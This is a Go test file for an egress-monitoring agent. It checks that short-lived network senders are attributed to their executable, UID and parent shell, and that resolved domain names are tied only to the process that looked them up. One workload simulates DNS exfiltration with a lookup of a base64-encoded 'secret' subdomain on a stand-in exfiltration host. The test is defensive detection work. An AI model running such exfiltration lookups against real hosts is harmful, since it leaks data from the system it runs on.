package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// lineageReport is the part of report.json TestRunNamesShortLivedSenders reads.
type lineageReport struct {
	Egress []struct {
		IP       string `json:"ip"`
		Port     int    `json:"port"`
		Protocol string `json:"protocol"`
		Verdict  string `json:"verdict"`
		Process  struct {
			PID     int    `json:"pid"`
			UID     int    `json:"uid"`
			Exe     string `json:"exe"`
			Unknown string `json:"unknown"`
			Parents []struct {
				Exe string `json:"exe"`
			} `json:"parents"`
		} `json:"process"`
	} `json:"egress"`
	Agent struct {
		Attribution       string `json:"attribution"`
		AttributionReason string `json:"attribution_reason"`
	} `json:"agent"`
}

// TestRunNamesShortLivedSenders: senders of every protocol that send once
// and exit at once, as the unprivileged user, to destinations the policy
// does not allow, are named in the report with their executable and the
// shell that ran them, in block and in audit mode. Before the kernel-side
// capture, sock_diag found no socket for most of them ("no socket", "no
// process holds the socket"), and UDP-Lite and ICMP were never looked up.
func TestRunNamesShortLivedSenders(t *testing.T) {
	if _, err := os.Stat("/sys/kernel/btf/vmlinux"); err != nil {
		t.Skip("needs kernel BTF for the kernel-side capture")
	}
	w := newWorld(t)
	type sender struct {
		ip, proto string
		port      int
		exe       string // base name; a trailing * matches any suffix
	}
	senders := map[string]sender{
		"udp4-socat-u":  {"198.18.1.41", "udp", 9999, "socat"},
		"udp6-socat-u":  {"2001:db8:1::42", "udp", 9999, "socat"},
		"udplite4":      {"198.18.1.43", "136", 9999, "python3*"},
		"icmp4-ping":    {"198.18.1.44", "icmp", 0, "ping"},
		"icmp6-ping":    {"2001:db8:1::45", "icmpv6", 0, "ping"},
		"tcp4-goclient": {"198.18.1.46", "tcp", 22, "goclient"},
	}
	wl := workload{
		{"udp4-socat-u", "echo x | socat -u - UDP4:198.18.1.41:9999"},
		{"udp6-socat-u", "echo x | socat -u - UDP6:[2001:db8:1::42]:9999"},
		{"udplite4", `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'x', ('198.18.1.43', 9999))"`},
		{"icmp4-ping", "ping -c1 -W1 198.18.1.44"},
		{"icmp6-ping", "ping -6 -c1 -W1 2001:db8:1::45"},
		{"tcp4-goclient", "HR_GOCLIENT=dial " + w.self + " 198.18.1.46:22"},
	}
	for _, mode := range []string{"block", "audit"} {
		t.Run(mode, func(t *testing.T) {
			w.run(t, []string{"--egress-policy", mode, "--allowed-endpoints", "allowed.test:443", "--upstream", "198.18.0.2"}, wl)
			dir := filepath.Join(w.tmp, "report-"+mode)
			b, err := os.ReadFile(filepath.Join(dir, "report.json"))
			if err != nil {
				t.Fatal(err)
			}
			var rep lineageReport
			if err := json.Unmarshal(b, &rep); err != nil {
				t.Fatal(err)
			}
			if rep.Agent.Attribution != "ebpf" {
				t.Errorf("agent.attribution %q (%s), want ebpf", rep.Agent.Attribution, rep.Agent.AttributionReason)
			}
			verdict := map[string]string{"block": "blocked", "audit": "audit"}[mode]
			for name, s := range senders {
				found := false
				for _, e := range rep.Egress {
					if e.IP != s.ip || e.Port != s.port || e.Protocol != s.proto {
						continue
					}
					found = true
					p := e.Process
					exe := filepath.Base(p.Exe)
					ok := exe == s.exe || strings.HasSuffix(s.exe, "*") && strings.HasPrefix(exe, strings.TrimSuffix(s.exe, "*"))
					if !ok || p.UID != 65534 || e.Verdict != verdict {
						t.Errorf("%s: %s %s:%d verdict %s process %+v; want %s, uid 65534, %s", name, s.proto, s.ip, s.port, e.Verdict, p, s.exe, verdict)
					}
					if len(p.Parents) == 0 || filepath.Base(p.Parents[0].Exe) != "dash" {
						t.Errorf("%s: parents %+v, want the shell (dash) first", name, p.Parents)
					}
				}
				if !found {
					t.Errorf("%s: no egress entry for %s %s:%d", name, s.proto, s.ip, s.port)
				}
			}
		})
	}
}

// TestRunNamesAllowedFlows: flows the policy allows (address entries),
// sent once by processes that exit at once, as the unprivileged user, are
// in the report as allowed with their executable, uid and shell, in block
// and audit mode, with nothing lost. With the kernel-side capture they
// come from the firewall's accept mark (lineage's cgroup egress program),
// not from NFLOG.
func TestRunNamesAllowedFlows(t *testing.T) {
	if _, err := os.Stat("/sys/kernel/btf/vmlinux"); err != nil {
		t.Skip("needs kernel BTF for the kernel-side capture")
	}
	w := newWorld(t)
	senders := map[string]struct {
		ip, proto string
		port      int
		exe       string
	}{
		"tcp4-goclient": {"198.18.1.48", "tcp", 22, "goclient"},
		"udp4-socat-u":  {"198.18.1.49", "udp", 9999, "socat"},
		"udp6-socat-u":  {"2001:db8:1::4a", "udp", 9999, "socat"},
	}
	wl := workload{
		{"tcp4-goclient", "HR_GOCLIENT=dial " + w.self + " 198.18.1.48:22"},
		{"udp4-socat-u", "echo x | socat -u - UDP4:198.18.1.49:9999"},
		{"udp6-socat-u", "echo x | socat -u - UDP6:[2001:db8:1::4a]:9999"},
	}
	allowed := "198.18.1.48:22 198.18.1.49:9999 [2001:db8:1::4a]:9999"
	for _, mode := range []string{"block", "audit"} {
		t.Run(mode, func(t *testing.T) {
			w.run(t, []string{"--egress-policy", mode, "--allowed-endpoints", allowed, "--upstream", "198.18.0.2"}, wl)
			b, err := os.ReadFile(filepath.Join(w.tmp, "report-"+mode, "report.json"))
			if err != nil {
				t.Fatal(err)
			}
			var rep lineageReport
			if err := json.Unmarshal(b, &rep); err != nil {
				t.Fatal(err)
			}
			var lost struct {
				Agent struct {
					Lost struct {
						Total int `json:"total"`
					} `json:"lost"`
				} `json:"agent"`
			}
			if err := json.Unmarshal(b, &lost); err != nil {
				t.Fatal(err)
			}
			if rep.Agent.Attribution != "ebpf" || lost.Agent.Lost.Total != 0 {
				t.Errorf("agent.attribution %q (%s), %d lost; want ebpf, 0", rep.Agent.Attribution, rep.Agent.AttributionReason, lost.Agent.Lost.Total)
			}
			for name, s := range senders {
				n := 0
				for _, e := range rep.Egress {
					if e.IP != s.ip || e.Port != s.port || e.Protocol != s.proto {
						continue
					}
					n++
					p := e.Process
					if filepath.Base(p.Exe) != s.exe || p.UID != 65534 || e.Verdict != "allowed" {
						t.Errorf("%s: verdict %s process %+v; want allowed, %s, uid 65534", name, e.Verdict, p, s.exe)
					}
					if len(p.Parents) == 0 || filepath.Base(p.Parents[0].Exe) != "dash" {
						t.Errorf("%s: parents %+v, want the shell (dash) first", name, p.Parents)
					}
				}
				if n != 1 {
					t.Errorf("%s: %d egress entries for %s %s:%d, want 1", name, n, s.proto, s.ip, s.port)
				}
			}
		})
	}
}

// TestRunCountsUnrecordedAccepts: a packet the agent's rule accepted and
// marked but that never reached the kernel-side recorder (here another
// table's later rule drops it; a kernel tunnel socket's packets skip the
// cgroup hook the same way) is not silently missing: the report warns
// and counts it lost.
func TestRunCountsUnrecordedAccepts(t *testing.T) {
	if _, err := os.Stat("/sys/kernel/btf/vmlinux"); err != nil {
		t.Skip("needs kernel BTF for the kernel-side capture")
	}
	w := newWorld(t)
	later := filepath.Join(w.tmp, "later.nft")
	if err := os.WriteFile(later, []byte(`table inet later {
	chain out {
		type filter hook output priority 10; policy accept;
		ip daddr 198.18.1.51 tcp dport 22 drop
	}
}
`), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := w.In(w.Runner, "nft", "-f", later).CombinedOutput(); err != nil {
		t.Fatalf("nft: %v: %s", err, out)
	}
	t.Cleanup(func() { _ = w.In(w.Runner, "nft", "delete", "table", "inet", "later").Run() })
	w.run(t, []string{"--egress-policy", "block", "--allowed-endpoints", "198.18.1.51:22", "--upstream", "198.18.0.2"},
		workload{{"dropped-later", "HR_GOCLIENT=dial " + w.self + " 198.18.1.51:22"}})
	b, err := os.ReadFile(filepath.Join(w.tmp, "report-TestRunCountsUnrecordedAccepts", "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep struct {
		Agent struct {
			Warnings []struct {
				Message string `json:"message"`
			} `json:"warnings"`
			Lost struct {
				ByComponent map[string]int `json:"by_component"`
			} `json:"lost"`
		} `json:"agent"`
	}
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatal(err)
	}
	warned := false
	for _, m := range rep.Agent.Warnings {
		warned = warned || strings.Contains(m.Message, "never reached the kernel-side recorder")
	}
	if !warned || rep.Agent.Lost.ByComponent["flowlog"] < 1 {
		t.Errorf("warnings %+v, flowlog lost %d; want the warning and at least 1 lost", rep.Agent.Warnings, rep.Agent.Lost.ByComponent["flowlog"])
	}
}

// TestRunSaysAttributionFallback: with the kernel-side capture switched
// off (as on a kernel without BTF), the report says attribution was
// "procfs" and why.
func TestRunSaysAttributionFallback(t *testing.T) {
	w := newWorld(t)
	t.Setenv("HARDEN_RUNNER_NO_EBPF", "1")
	w.run(t, []string{"--egress-policy", "audit"}, workload{{"udp", "echo x | socat -u - UDP4:198.18.1.47:9999"}})
	b, err := os.ReadFile(filepath.Join(w.tmp, "report-TestRunSaysAttributionFallback", "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep lineageReport
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Agent.Attribution != "procfs" || !strings.Contains(rep.Agent.AttributionReason, "HARDEN_RUNNER_NO_EBPF") {
		t.Errorf("agent attribution %q (%q), want procfs because of HARDEN_RUNNER_NO_EBPF", rep.Agent.Attribution, rep.Agent.AttributionReason)
	}
}

// TestRunDomainsPerProcess: a flow is named only by what its own process
// or an ancestor resolved. Process A looks up an exfiltration name;
// process B, unrelated, connects to the address directly: B's flow carries
// no name and the suggested policy offers the address, never A's name. A
// child of a process that resolved a name connects to it: its flow has the
// parent's name. In block and audit mode.
func TestRunDomainsPerProcess(t *testing.T) {
	w := newWorld(t)
	wl := workload{
		{"a-resolves", "getent hosts c2VjcmV0.exfil.test"},
		{"b-direct", "echo x | socat -u - TCP4:198.18.1.17:22"},
		{"child-of-resolver", `python3 -c "import socket,subprocess; ip=socket.gethostbyname('audit-only.test'); subprocess.run(['socat','-u','-','TCP4:'+ip+':22'], input=b'x', check=True)"`},
	}
	type rowT struct {
		Domain  string `json:"domain"`
		IP      string `json:"ip"`
		Port    int    `json:"port"`
		Verdict string `json:"verdict"`
		Process struct {
			PID     int    `json:"pid"`
			Exe     string `json:"exe"`
			Parents []struct {
				Exe string `json:"exe"`
			} `json:"parents"`
		} `json:"process"`
	}
	type epT struct {
		Endpoint string `json:"endpoint"`
		Reason   string `json:"reason"`
	}
	var rep struct {
		Egress []rowT `json:"egress"`
		DNS    []struct {
			Name    string `json:"name"`
			Verdict string `json:"verdict"`
			Process struct {
				PID int    `json:"pid"`
				Exe string `json:"exe"`
			} `json:"process"`
		} `json:"dns"`
		Suggested struct {
			Entries []epT `json:"entries"`
			Review  []epT `json:"review"`
		} `json:"suggested_policy"`
	}
	for _, mode := range []string{"block", "audit"} {
		t.Run(mode, func(t *testing.T) {
			// In block mode the child's connection goes to the name-checking
			// relay (allowed by name), which refuses it (no TLS or HTTP name):
			// its verdict is not what this test is about, its name is.
			w.run(t, []string{"--egress-policy", mode, "--allowed-endpoints", "allowed.test:443 audit-only.test:22", "--upstream", "198.18.0.2"}, wl)
			b, err := os.ReadFile(filepath.Join(w.tmp, "report-"+mode, "report.json"))
			if err != nil {
				t.Fatal(err)
			}
			if err := json.Unmarshal(b, &rep); err != nil {
				t.Fatal(err)
			}
			for _, d := range rep.DNS {
				if d.Name == "c2VjcmV0.exfil.test" && (d.Process.PID == 0 || filepath.Base(d.Process.Exe) != "getent") {
					t.Errorf("query for %s by %+v, want getent's", d.Name, d.Process)
				}
			}
			var direct, child *rowT
			for i, e := range rep.Egress {
				switch {
				case e.IP == "198.18.1.17" && e.Port == 22:
					direct = &rep.Egress[i]
				case e.IP == "198.18.1.18" && e.Port == 22:
					child = &rep.Egress[i]
				}
			}
			if direct == nil || child == nil {
				t.Fatalf("no egress rows for 198.18.1.17:22 (%v) or 198.18.1.18:22 (%v): %+v", direct != nil, child != nil, rep.Egress)
			}
			if direct.Domain != "" || filepath.Base(direct.Process.Exe) != "socat" {
				t.Errorf("direct-IP flow of %s named %q, want socat's flow with no name", direct.Process.Exe, direct.Domain)
			}
			if child.Domain != "audit-only.test" || filepath.Base(child.Process.Exe) != "socat" ||
				len(child.Process.Parents) == 0 || !strings.HasPrefix(filepath.Base(child.Process.Parents[0].Exe), "python3") {
				t.Errorf("child's flow %+v, want socat under python3 named audit-only.test", *child)
			}
			var eps []string
			for _, e := range append(rep.Suggested.Entries, rep.Suggested.Review...) {
				eps = append(eps, e.Endpoint)
				if e.Endpoint == "198.18.1.17:22" && mode == "audit" && e.Reason == "" {
					t.Errorf("suggested %s without saying why it is an address", e.Endpoint)
				}
			}
			if slices.Contains(eps, "c2VjcmV0.exfil.test:22") || !slices.Contains(eps, "198.18.1.17:22") || !slices.Contains(eps, "audit-only.test:22") {
				t.Errorf("suggested %q, want 198.18.1.17:22 and audit-only.test:22, never c2VjcmV0.exfil.test:22", eps)
			}
		})
	}
}
